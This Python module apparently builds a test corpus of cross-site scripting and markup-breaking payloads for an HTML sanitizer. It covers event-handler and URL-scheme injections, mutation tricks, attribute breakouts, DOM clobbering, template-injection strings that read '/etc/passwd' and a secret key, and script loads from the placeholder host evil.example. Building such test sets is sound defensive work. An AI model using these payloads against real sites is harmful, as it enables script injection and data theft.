"""Markup that tries to run a script, leave the page or tear it, made from a few lists: each part with each other.

What runs calls `canary`, what leaves the page goes to `evil.example`. Nobody else's list is copied here.
"""

from __future__ import annotations

import base64
import itertools
from collections.abc import Iterator

RUN = "canary(1)"
EVIL = "//evil.example"
PICTURE = f"<img src=x onerror={RUN}>"

_ELEMENTS = (
    "img src=x",
    "svg",
    "svg><animate attributeName=x dur=1s",
    "math",
    "body",
    "video src=x",
    "video><source src=x",
    "audio src=x autoplay",
    "iframe src=about:blank",
    "input autofocus",
    "button autofocus",
    "select autofocus",
    "textarea autofocus",
    "details open",
    "marquee",
    "object data=x",
    "embed src=x",
    "style",
    "link rel=stylesheet href=x",
    "a href=x tabindex=0 autofocus",
    "p tabindex=0 contenteditable autofocus",
    "my-own-element tabindex=0 autofocus",
)
_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onbegin", "onanimationstart", "onpointerenter")
_WAYS_TO_WRITE = (
    "<{element} {handler}={code}>",
    "<{element} {handler}='{code}'>",
    '<{element} {handler}="{code}">',
    "<{element} {handler}=`{code}`>",
    "<{element}/{handler}={code}//",
    "<{element}\n{handler}\n=\n{code}\n>x",
    "<{element} \x00{handler}={code}>",
    "<{element} x='>' {handler}={code}>",
    '<{element} x=">" {handler}={code}',
    "<{element} {handler}=&#99;anary(1)>",
    "<{element} {handler}\x0c=\x0b{code} <p>",
)

_SCHEMES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\r\nscript:{RUN}",
    f" \x01javascript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A&#x61vascript&colon;{RUN}",
    f"java&Tab;script&NewLine;:{RUN}",
    f"javascript://%0a{RUN}",
    f"\u200bjavascript:{RUN}",
    f"view-source:javascript:{RUN}",
    f"feed:javascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64," + base64.b64encode(f"<script>{RUN}</script>".encode()).decode(),
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    "blob:http://evil.example/1",
    "file:///etc/passwd",
    f"{EVIL}/x",
)
_CARRIERS = (
    '<a href="{}">x</a>',
    '<map name=m><area href="{}" shape=default></map><img usemap=#m src=x>',
    '<form action="{}"><input type=submit autofocus></form>',
    '<form id=f></form><button form=f formaction="{}">x</button>',
    '<iframe src="{}"></iframe>',
    '<embed src="{}">',
    '<object data="{}"></object>',
    '<img src="{}">',
    '<img srcset="{} 2x" src=x>',
    '<picture><source srcset="{}"><img src=x></picture>',
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>',
    '<svg><a><animate attributeName=href values="{}"/><text y=9>x</text></a></svg>',
    '<svg><use href="{}"/><image href="{}"/></svg>',
    '<svg><script href="{}"></script></svg>',
    '<math href="{}"><mi>x</mi></math>',
    '<base href="{}"><a href=x>x</a>',
    '<link rel=stylesheet href="{}"><link rel=prefetch href="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<video poster="{}" src="{}" autoplay></video>',
    '<audio src="{}" autoplay></audio>',
    '<input type=image src="{}">',
    '<table background="{}"><tr><td background="{}">x</table>',
    '<blockquote cite="{}">x</blockquote>',
    '<a href=https://blog.example/ ping="{}">x</a>',
    '<script src="{}"></script>',
    '<frameset><frame src="{}"></frameset>',
    '<applet code="{}"></applet>',
    "<p style=\"background:url('{}')\">x</p>",
)

_CONTAINERS = (
    "svg",
    "math",
    "noscript",
    "style",
    "template",
    "title",
    "textarea",
    "xmp",
    "plaintext",
    "noembed",
    "noframes",
    "iframe",
    "script",
    "select",
    "option",
    "table",
    "form",
    "button",
    "desc",
    "foreignObject",
    "annotation-xml encoding=text/html",
    "mglyph",
    "malignmark",
    "dialog open",
)
_MUTATIONS = (
    "<{name}>{picture}</{bare}>",
    '<{name}><a title="</{bare}>{picture}">',
    "<svg><{name}>{picture}",
    "<math><mtext><{name}><style><!--</style>{picture}-->",
    "<form><math><mtext></form><form><{name}></math>{picture}",
    "<table><{name}><td>{picture}</{bare}></table>{picture}",
    "<{name}><!--</{bare}><p title='-->{picture}'>",
    "<noscript><{name}></noscript>{picture}",
)

_KEPT_ATTRIBUTES = (
    "<p lang={}>x</p>",
    "<p dir={}>x</p>",
    "<a href={}>x</a>",
    "<img src=/a.png alt={}>",
    "<img src={}>",
    "<img src=/a.png srcset={}>",
    "<img src=/a.png width={} height={}>",
    "<abbr title={}>x</abbr>",
    "<code class={}>x</code>",
    "<ol start={}><li>x</ol>",
    "<table><tr><td colspan={}>x</table>",
    "<table><tr><th scope={}>x</table>",
    "<iframe src=https://www.youtube.com/embed/abcdefghijk title={}></iframe>",
)
_BREAKERS = (
    f"'x\" onmouseover={RUN} autofocus onfocus={RUN} x=\"'",
    f"'x\">{PICTURE}'",
    f"x&quot;&gt;&lt;img/src=x/onerror={RUN}&gt;",
    f'"https://e.example/\'>{PICTURE}"',
    f"https://e.example/`onfocus={RUN}`",
)

_TEARS = (
    "<!--",
    "<!-- x --!>" + PICTURE,
    "<![CDATA[",
    f"<![CDATA[{PICTURE}]]>",
    "<!DOCTYPE html>" + PICTURE,
    f"<?php {PICTURE} ?>",
    "<?xml-stylesheet href='javascript:canary(1)'?>",
    "</article></main>" + PICTURE,
    "</article></section></section></div></main></div></body></html>",
    "</p></div></div></div></div></div></div></div></div></div>",
    "<div><div><div><div><section><article>",
    "<b><i><u><a href=x><code><pre>",
    "<table><tr><td><table><tr>",
    "<ul><li><ol><li><dl><dd>",
    "<select><option>",
    "<button>",
    "<a href='https://blog.example/",
    '<img src="https://blog.example/x.png',
    '<p title="',
    "<a x='",
    "<",
    "</",
    "<p/",
    "<script",
    "<style>*{display:none}",
    "<script>canary(1)",
    "<textarea>",
    "<title>",
    "<xmp>",
    "<plaintext>",
    "<noscript>",
    "<iframe>",
    "<template>",
    "<svg>",
    "<math>",
    "<object>",
    "<form>",
    "<frameset>",
    "<body class=x>",
    "<html class=x>",
    "<head><title>x",
    "<main><header><footer>",
)

_STYLES = (
    "<p style='position:fixed;inset:0;z-index:9;background:red'>x</p>",
    "<p style='margin-top:-9999px'>x</p>",
    "<p style='width:expression(canary(1))'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x)'>x</p>",
    "<style>@import '//evil.example/x.css';body{display:none}</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/x)}*{font-family:x}</style>",
    "<style>@keyframes x{}</style><p style='animation:x 1s' onanimationstart=canary(1)>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preload as=script href=//evil.example/x.js><link rel=dns-prefetch href=//evil.example>",
    "<p class='masthead foot visually-hidden entry'>x</p>",
    "<font style='color:red' size=99>x</font>",
    "<p hidden>x</p><p inert>x</p>",
)

_CLOBBERS = tuple(
    f"<{element} {attribute}={name}>x</{element.split()[0]}>"
    for element, attribute, name in itertools.product(
        ("a href=https://blog.example/", "img src=/x.png", "form", "p"),
        ("id", "name"),
        ("body", "cookie", "location", "main", "getElementById", "forms"),
    )
)

_SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script/x>{RUN}</script >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script><!--<script>{RUN}</script>-->{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    f'<script type=importmap>{{"imports":{{"x":"{EVIL}/x.js"}}}}</script>',
    f"<script src={EVIL}/x.js></script>",
    f"<script async defer src={EVIL}/x.js>",
    f"<script>/*</script><script>*/{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    "<svg><script>&#99;anary(1)</script></svg>",
    f"<math><script>{RUN}</script></math>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'></iframe>",
    f"<iframe sandbox=allow-scripts srcdoc='{PICTURE}'></iframe>",
    f"<object type=text/html data='data:text/html,{PICTURE}'></object>",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
    f"<template shadowrootmode=open>{PICTURE}</template>",
    f"<div><template shadowrootmode=open><slot></slot>{PICTURE}</template></div>",
)

_ODD_SPELLINGS = (
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"&#x3c;img src=x onerror={RUN}&#x3e;",
    f"&LT;img src=x onerror={RUN}&GT;",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\u2039script\u203a{RUN}",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"<\u2028script>{RUN}</script>",
    f"<\x00script>{RUN}</script>",
    f"<\tscript>{RUN}</script>",
    f"<script\u00a0x>{RUN}</script>",
    f"<ſcript>{RUN}</ſcript>",
    f"<İmg src=x onerror={RUN}>",
    f"\ud83d\udc69<img src=x onerror={RUN}>".encode("utf-16", "surrogatepass").decode("utf-16"),
    f"\u202e<img src=x onerror={RUN}>\u202c",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    "{% include '/etc/passwd' %}{{ settings.SECRET_KEY }}",
    f"']]><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style></textarea></noscript></template><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" autofocus onfocus={RUN} x="',
    f"' autofocus onfocus='{RUN}",
    f"\U0010fffcscript\U0010fffd{RUN}\U0010fffc/script\U0010fffd",
    f"&#x10fffc;img src=x onerror={RUN}&#x10fffd;",
)


def payloads() -> list[str]:
    """All of them, each once."""
    return list(
        dict.fromkeys(
            [
                *_SCRIPTS,
                *_handlers(),
                *_addresses(),
                *_mutations(),
                *_breakers(),
                *_TEARS,
                *_STYLES,
                *_CLOBBERS,
                *_ODD_SPELLINGS,
            ]
        )
    )


def _handlers() -> Iterator[str]:
    """Each handler on each element; the ways to write it take turns."""
    ways = itertools.cycle(_WAYS_TO_WRITE)
    for element, handler in itertools.product(_ELEMENTS, _HANDLERS):
        yield next(ways).format(element=element, handler=handler, code=RUN)


def _addresses() -> Iterator[str]:
    """Each element that takes an address, with a third of the schemes in turn; and each scheme alone."""
    schemes = itertools.cycle(_SCHEMES)
    for carrier in _CARRIERS:
        for scheme in itertools.islice(schemes, 0, 6):
            yield carrier.replace("{}", scheme.replace('"', "&quot;"))
    yield from _SCHEMES


def _mutations() -> Iterator[str]:
    for name, mutation in itertools.product(_CONTAINERS, _MUTATIONS):
        yield mutation.format(name=name, bare=name.split()[0], picture=PICTURE)


def _breakers() -> Iterator[str]:
    for element, breaker in itertools.product(_KEPT_ATTRIBUTES, _BREAKERS):
        yield element.replace("{}", breaker)
